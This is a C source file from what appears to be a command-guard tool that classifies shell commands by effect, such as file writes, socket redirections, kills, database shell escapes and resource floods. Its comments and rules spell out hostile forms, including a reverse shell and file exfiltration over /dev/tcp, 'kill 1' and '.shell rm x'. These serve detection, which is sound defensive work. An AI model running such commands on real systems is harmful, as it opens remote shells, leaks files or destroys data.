/* SPDX-License-Identifier: Apache-2.0 */
/* guard/effect.c - see effect.h */
#include "guard/effect.h"

#include "guard/wrap.h"

/* Judging. */

/* The user's own verdict for an effect; a project's file can only make it stricter. */
static enum verdict acted(const struct walk *w, const char *kind, enum verdict v)
{
	size_t n = strlen(kind);

	for (size_t i = 0; i < w->n_sets; i++)
		for (const char *at = w->sets[i]->actions[w->is_inside]; at && *at;
		     at = strchr(at, '|') + 1) {
			enum verdict want = (enum verdict)(at[n] ? at[n + 1] - '0' : 0);

			if (strncmp(at, kind, n) == 0 && at[n] == '=' &&
			    (w->sets[i]->may_allow || want > v))
				v = want;
		}
	return v;
}

/* A command with thousands of arguments asks the same thousands of times. */
static bool has_option(struct walk *w, const struct cmd *c, const char *list)
{
	if (c->args == NULL)
		return false;
	if (w->asked.args != c->args || w->asked.list != list) {
		w->asked.args = c->args;
		w->asked.list = list;
		w->asked.is_given = args_have(c->args, list);
	}
	return w->asked.is_given;
}

static bool rule_fits(struct walk *w, const struct rule *r, const struct value *what,
		      const struct cmd *c)
{
	if ((r->program && !rules_list_has(r->program, c->name)) ||
	    !cmd_context_fits(c, &w->places, r))
		return false;
	if (r->at && !place_fits(&w->places, r->at, what))
		return false;
	if (r->no_at && place_fits(&w->places, r->no_at, what))
		return false;
	if (r->option[0] && !has_option(w, c, r->option[0]))
		return false;
	return !(r->no_program && rules_list_has(r->no_program, c->name));
}

static void note(struct walk *w, const struct effect *f)
{
	if (w->n_effects < WALK_MAX_EFFECTS)
		w->effects[w->n_effects++] = *f;
}

void effect_add(struct walk *w, enum effect_kind k, const struct value *what, const struct cmd *c)
{
	struct effect f = { .kind = k, .what = what->s, .command = c->name };

	for (size_t i = 0; i < w->n_effect_rules[k]; i++) {
		const struct rule *r = w->effect_rules[k][i];
		enum verdict verdict = r->verdict;

		if (!rule_fits(w, r, what, c))
			continue;
		/* No setting allows what switches the guard off: "@guard" is a place, "guard" a change. */
		if (!(r->at && strstr(r->at, "guard")))
			verdict = acted(w, effect_name(k), verdict);
		if (verdict == VERDICT_ALLOW)
			continue;
		walk_hit_as(w, r, verdict, c);
		if (verdict > f.verdict) {
			f.verdict = verdict;
			f.rule = r;
		}
	}
	note(w, &f);
}

void effect_text(struct walk *w, enum effect_kind k, const char *what, const struct cmd *c)
{
	effect_add(w, k, value_text(w->mem, what, strlen(what)), c);
}

/* Clauses. */

struct clause {
	const char *verb, *what, *when, *unless; /* words of the table */
};

static char *next_token(char **at)
{
	char *s = *at + strspn(*at, " ");

	*at = s + strcspn(s, " ");
	if (**at)
		*(*at)++ = '\0';
	return s;
}

static struct clause clause_read(char *text)
{
	struct clause c = { 0 };
	char *at = text;

	c.verb = next_token(&at);
	c.what = next_token(&at);
	for (char *word = next_token(&at); *word; word = next_token(&at)) {
		if (str_eq(word, "if"))
			c.when = next_token(&at);
		else if (str_eq(word, "unless"))
			c.unless = next_token(&at);
		else
			bug_on(true);
	}
	return c;
}

/* Arguments without the subcommand. */
static size_t first_arg(const struct args *a)
{
	return a->syntax && a->syntax->name && strchr(a->syntax->name, ' ') && a->n_pos ? 1 : 0;
}

static bool any_text(const struct args *a, const char *pattern)
{
	for (size_t i = 0; i < a->n_pos; i++)
		if (rules_list_fits(pattern, a->pos[i]->s))
			return true;
	return false;
}

static uint64_t size_of(const char *s)
{
	static const char units[] = "KMGTPE";
	uint64_t n = 0;
	const char *at;

	for (s += s[0] == '+'; *s >= '0' && *s <= '9' && n < UINT64_MAX / 20; s++)
		n = n * 10 + (uint64_t)(*s - '0');
	at = *s ? strchr(units, *s >= 'a' ? *s - 32 : *s) : NULL;
	for (ptrdiff_t i = at ? at - units + 1 : 0; i > 0 && n < UINT64_MAX >> 10; i--)
		n <<= 10;
	return n;
}

/* "-m|--mode=4755|2755", "-j|--jobs>99" */
static bool any_option_value(struct walk *w, const struct args *a, const char *cond)
{
	size_t n = strcspn(cond, "=>");
	const char *names = arena_strn(w->mem, cond, n), *want = cond + n + 1;

	for (size_t i = 0; i < a->n_options; i++) {
		const struct value *v = a->options[i].value;

		if (v == NULL || !args_is(a->options[i].name, names))
			continue;
		if (cond[n] == '>' ? size_of(v->s) > size_of(want)
				   : place_fits(&w->places, want, v))
			return true;
	}
	return false;
}

static bool holds(struct walk *w, const struct cmd *c, const struct args *a, const char *cond)
{
	if (str_eq(cond, "stdin"))
		return c->input != INPUT_NONE;
	if (cond[0] == '/')
		return any_text(a, cond + 1);
	if (cond[0] >= '0' && cond[0] <= '9')
		return a->n_pos - first_arg(a) >= (size_t)(cond[0] - '0');
	if (strpbrk(cond, "=>"))
		return any_option_value(w, a, cond);
	return args_have(a, cond);
}

/* of=~/x: the shell puts the home directory in, as in an assignment. */
static const struct value *path_value(struct walk *w, const char *s)
{
	if (s[0] == '~' && (s[1] == '/' || s[1] == '\0'))
		s = arena_fmt(w->mem, "%s%s", w->places.home, s + 1);
	return value_text(w->mem, s, strlen(s));
}

static void each_value(struct walk *w, const struct cmd *c, const struct args *a, const char *what,
		       void (*to)(struct walk *w, const struct cmd *c, const struct value *v,
				  void *arg),
		       void *arg)
{
	size_t from = first_arg(a), end = a->n_pos, n = strlen(what);

	if (what[0] == ':') {
		to(w, c, value_text(w->mem, what + 1, n - 1), arg);
		return;
	}
	if (what[0] == '-') {
		for (size_t i = 0; i < a->n_options; i++)
			if (a->options[i].value && args_is(a->options[i].name, what))
				to(w, c, a->options[i].value, arg);
		return;
	}
	if (what[n - 1] == '=') {
		for (size_t i = 0; i < a->n_pos; i++)
			if (str_starts(a->pos[i]->s, what))
				to(w, c, path_value(w, a->pos[i]->s + n), arg);
		return;
	}
	if (str_eq(what, "first"))
		end = from < end ? from + 1 : end;
	else if (str_eq(what, "rest"))
		from++;
	else if (str_eq(what, "last"))
		from = end > from ? end - 1 : end;
	else if (str_eq(what, "init"))
		end = end > from ? end - 1 : end;
	for (size_t i = from; i < end; i++)
		to(w, c, a->pos[i], arg);
}

static void add_one(struct walk *w, const struct cmd *c, const struct value *v, void *arg)
{
	effect_add(w, *(const enum effect_kind *)arg, v, c);
}

static void execute_one(struct walk *w, const struct cmd *c, const struct value *v, void *arg)
{
	(void)arg;
	walk_text(w, v->s, v->n, c, c->name);
}

static void interpret_one(struct walk *w, const struct cmd *c, const struct value *v, void *arg)
{
	(void)arg;
	code_scan(w, c, v->s);
}

/* The words from the one on that is meant: a command of its own. */
static void run_from(struct walk *w, const struct cmd *c, const struct value *v, void *arg)
{
	bool *is_done = arg;

	for (size_t i = 1; i < c->argc && !*is_done; i++)
		if (c->argv[i] == v) {
			walk_inner(w, c, i, c->name);
			*is_done = true;
		}
}

/* --dry-run=none is none. */
static bool is_trial(const struct args *a)
{
	for (size_t i = 0; i < a->n_options; i++)
		if (args_is(a->options[i].name, "--help|--dry-run|--dryrun"))
			return !(a->options[i].value &&
				 rules_list_has("none|false|no|0", a->options[i].value->s));
	return false;
}

static void clause_do(struct walk *w, const struct cmd *c, const struct args *a,
		      const struct clause *l)
{
	enum effect_kind k = effect_find(l->verb, strlen(l->verb));
	bool is_done = false;

	if (k == EFFECT_CHANGES && is_trial(a))
		return;
	if ((l->when && !holds(w, c, a, l->when)) || (l->unless && holds(w, c, a, l->unless)))
		return;
	if (k < EFFECT_COUNT_)
		each_value(w, c, a, l->what, add_one, &k);
	else if (str_eq(l->verb, "executes"))
		each_value(w, c, a, l->what, execute_one, NULL);
	else if (str_eq(l->verb, "interprets"))
		each_value(w, c, a, l->what, interpret_one, NULL);
	else if (str_eq(l->verb, "runs"))
		each_value(w, c, a, l->what, run_from, &is_done);
	else
		bug_on(true);
}

/* What no table says. */

static bool is_nothing(const struct cmd *c)
{
	if (rules_list_has(":|true", c->name) || c->argc == 0)
		return true;
	if (rules_list_has("echo|printf", c->name))
		return (c->argc == 2 && (str_eq(c->argv[1]->s, "-n") || c->argv[1]->n == 0)) ||
		       (c->argc == 3 && str_eq(c->argv[1]->s, "-n") && c->argv[2]->n == 0);
	return str_eq(c->name, "cat") && c->argc == 2 && str_eq(c->argv[1]->s, "/dev/null");
}

/* sort a > a: the shell empties the file before anybody reads it. */
static bool reads_same(const struct walk *w, const struct cmd *c, const struct value *path)
{
	if (rules_list_has("echo|printf|:|test|[|touch", c->name) || path->n == 0)
		return false;
	for (size_t i = 1; i < c->argc; i++)
		if (str_eq(c->argv[i]->s, path->s))
			return true;
	for (size_t i = 0; i < w->n_piped; i++)
		if (str_eq(w->piped[i], path->s))
			return true;
	return false;
}

/* bash -i >& /dev/tcp/host/port, cat file > /dev/tcp/host/port */
static bool to_socket(struct walk *w, const struct cmd *c, const struct file_use *f)
{
	const char *s = f->path->s;

	if (!str_starts(s, "/dev/tcp/") && !str_starts(s, "/dev/udp/"))
		return false;
	if (str_starts(s + 9, "localhost/") || str_starts(s + 9, "127."))
		return true;
	if (rules_list_has("bash|sh|zsh|dash|exec", c->name))
		effect_text(w, EFFECT_CHANGES, "tunnel", c);
	else if (f->is_written && !is_nothing(c))
		effect_text(w, EFFECT_SENDS, "\x01", c);
	return true;
}

static void redirections(struct walk *w, const struct cmd *c)
{
	for (size_t i = 0; i < c->n_files; i++) {
		const struct file_use *f = &c->files[i];

		if (to_socket(w, c, f))
			continue;
		if (f->is_read)
			effect_add(w, EFFECT_READS, f->path, c);
		if (f->is_written)
			effect_add(w,
				   f->is_appended                               ? EFFECT_APPENDS
				   : is_nothing(c) || reads_same(w, c, f->path) ? EFFECT_EMPTIES
										: EFFECT_WRITES,
				   f->path, c);
	}
}

/* Few options are worth a rule's look. */
static bool is_loud(const char *option)
{
	static const char *const words[] = { "delete", "destroy", "purge", "wipe",      "erase",
					     "drop",   "reset",   "zero",  "unregister" };

	for (size_t i = 0; i < ARRAY_LEN(words) && str_starts(option, "--"); i++)
		if (strstr(option, words[i]))
			return true;
	return false;
}

/* A program that no table knows, given a place that matters. */
static void unknown(struct walk *w, const struct cmd *c, const struct args *a)
{
	for (size_t i = 0; i < a->n_pos; i++)
		if (!strpbrk(a->pos[i]->s, " *"))
			effect_add(w, EFFECT_USES, a->pos[i], c);
	for (size_t i = 0; i < a->n_options; i++) {
		if (is_loud(a->options[i].name))
			effect_text(w, EFFECT_USES, a->options[i].name, c);
		if (a->options[i].value && !strpbrk(a->options[i].value->s, " *"))
			effect_add(w, EFFECT_USES, a->options[i].value, c);
	}
}

/* /dev/zero and its like have no end; something must bring one. */
static void endless_source(struct walk *w, const struct cmd *c, const struct args *a)
{
	static const char sources[] = "/dev/zero|/dev/urandom|/dev/random|/dev/full";
	static const char readers[] = "cat|cp|tail|base64|sort|xxd|od|hexdump|gzip|bzip2|xz|tee|"
				      "less|more|grep|"
				      "md5sum|sha256sum|tr|dd|pv|yes";
	/* What yes prints into a pipe ends with its reader. */
	bool is_read = str_eq(c->name, "yes") && (!w->is_piped || c->n_files) &&
		       !args_have(a, "--help|--version");

	for (size_t i = 0; i < a->n_pos; i++) {
		const char *s = a->pos[i]->s;

		is_read |= rules_list_has(sources, str_starts(s, "if=") ? s + 3 : s);
	}
	for (size_t i = 0; i < c->n_files; i++)
		is_read |= c->files[i].is_read && rules_list_has(sources, c->files[i].path->s);
	if (!is_read || rules_list_has("ls|stat|test|[|file|chmod|rm|echo|printf|mknod", c->name))
		return;
	if (str_eq(c->name, "dd")
		    ? any_text(a, "count=*")
		    : args_have(a, "-c|-n|--bytes|--lines|-N") || !rules_list_has(readers, c->name))
		return;
	if (w->is_bounded)
		return;
	effect_text(w, EFFECT_STARTS, "endless", c);
}

#define LARGE_BYTES ((uint64_t)50 << 30)

/* fallocate -l 500G, head -c 100G /dev/zero, truncate -s 10T */
static void large_file(struct walk *w, const struct cmd *c, const struct args *a)
{
	uint64_t block = 512, count = 0, size;

	for (size_t i = 0; i < a->n_pos && str_eq(c->name, "dd"); i++) {
		if (str_starts(a->pos[i]->s, "bs="))
			block = size_of(a->pos[i]->s + 3);
		if (str_starts(a->pos[i]->s, "count="))
			count = size_of(a->pos[i]->s + 6);
	}
	if (count && (!mul_ok(block, count, &size) || size >= LARGE_BYTES))
		effect_text(w, EFFECT_STARTS, "large", c);
	for (size_t i = 0; i < a->n_options; i++)
		if (a->options[i].value &&
		    args_is(a->options[i].name, "-l|-c|-s|--length|--bytes|--size") &&
		    size_of(a->options[i].value->s) >= LARGE_BYTES)
			effect_text(w, EFFECT_STARTS, "large", c);
}

/* .shell rm x, \! rm x, system rm x */
static void database_shell(struct walk *w, const struct cmd *c, const char *text)
{
	static const char *const begins[] = { ".shell ", ".system ", "\\! ", "system ", "\\!" };

	for (size_t i = 0; i < ARRAY_LEN(begins); i++)
		if (str_starts(text, begins[i])) {
			const char *s = text + strlen(begins[i]);

			walk_text(w, s, strlen(s), c, c->name);
			return;
		}
}

/* A database's own shell, given its text in whatever way. */
static void database(struct walk *w, const struct cmd *c, const struct args *a)
{
	if (!rules_list_has("psql|mysql|mariadb|sqlite3|sqlite|duckdb|mongosh|mongo|cockroach|"
			    "clickhouse-client|"
			    "sqlcmd|cqlsh|redis-cli|usql|pgcli|mycli|litecli|influx|neo4j|cypher-"
			    "shell|bq|snowsql",
			    c->name))
		return;
	if (args_have(a, "-readonly|-safe|--readonly") || any_text(a, ":memory:"))
		return;
	code_sql(w, c, walk_join(w, c, 1));
	if (c->input == INPUT_TEXT && c->input_text)
		code_sql(w, c, c->input_text);
	for (size_t i = 1; i < c->argc; i++)
		database_shell(w, c, c->argv[i]->s);
	if (c->input == INPUT_TEXT && c->input_text)
		database_shell(w, c, c->input_text);
	/* A whole file of statements for what is named after production. */
	for (size_t i = 1; i < c->argc && c->input == INPUT_UNKNOWN; i++)
		if (strstr(c->argv[i]->s, "prod"))
			effect_text(w, EFFECT_CHANGES, "data", c);
}

static bool pipe_has(const struct walk *w, const char *words)
{
	for (size_t i = 0; i < w->n_piped; i++)
		if (rules_list_has(words, w->piped[i]))
			return true;
	return false;
}

/* kill 1, kill $(pgrep vitrine), kill $(pgrep -u me) */
static void kills(struct walk *w, const struct cmd *c, const struct args *a)
{
	for (size_t i = 0; i < a->n_pos; i++) {
		const struct word *word = a->pos[i]->word;

		if (str_eq(a->pos[i]->s, "1") && !args_have(a, "-0"))
			effect_text(w, EFFECT_CHANGES, "processes", c);
		/* ps -e | xargs kill: nobody picked these. */
		if (c->is_fed && value_begins_open(a->pos[i]) && pipe_has(w, "ps") &&
		    !pipe_has(w, "grep|egrep|awk|rg|-C|-p"))
			effect_text(w, EFFECT_CHANGES, "processes", c);
		if (word && place_script_names(word, "vitrine"))
			effect_text(w, EFFECT_CHANGES, "guard", c);
		else if (word && place_script_names(word, "-u|-U|--uid|--user|-U0|ps|-e|aux|-A"))
			effect_text(w, EFFECT_CHANGES, "processes", c);
	}
}

/* seq 100000 | xargs -P 0: one for each, all at once. */
static void all_at_once(struct walk *w, const struct cmd *c, const struct args *a)
{
	bool is_many = false;

	for (size_t i = 0; i < w->n_piped; i++)
		is_many |= size_of(w->piped[i]) >= 300 && w->piped[i][0] != '-';
	for (size_t i = 0; i < a->n_options && is_many; i++)
		if (a->options[i].value && str_eq(a->options[i].value->s, "0") &&
		    args_is(a->options[i].name, "-P|--max-procs|-j|--jobs"))
			effect_text(w, EFFECT_STARTS, "load", c);
}

void effect_read(struct walk *w, struct cmd *c, const struct args *a)
{
	const char *does = a->syntax ? a->syntax->does : NULL;

	redirections(w, c);
	endless_source(w, c, a);
	if (rules_list_has("fallocate|truncate|head|mkfile|dd", c->name))
		large_file(w, c, a);
	effect_network(w, c, a);
	database(w, c, a);
	if (str_eq(c->name, "kill"))
		kills(w, c, a);
	if (rules_list_has("xargs|parallel", c->name))
		all_at_once(w, c, a);
	if (does == NULL) {
		if ((a->syntax == NULL || !a->syntax->has_sub) && !wrap_is(c->name))
			unknown(w, c, a);
		return;
	}
	while (*does) {
		size_t n = strcspn(does, ";");
		struct clause l = clause_read(arena_strn(w->mem, does, n));

		if (l.verb[0])
			clause_do(w, c, a, &l);
		does += n + (does[n] == ';');
	}
}
